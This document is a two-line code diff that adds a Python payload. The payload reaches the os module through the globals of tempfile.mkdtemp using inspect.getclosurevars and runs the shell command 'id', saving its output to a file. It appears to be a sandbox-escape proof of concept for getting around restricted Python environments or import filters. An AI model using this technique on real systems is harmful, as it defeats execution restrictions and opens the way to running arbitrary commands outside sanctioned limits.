@@ -1,0 +1,2 @@
+import inspect, tempfile
+inspect.getclosurevars(tempfile.mkdtemp).globals["_os"].system("id>pf")
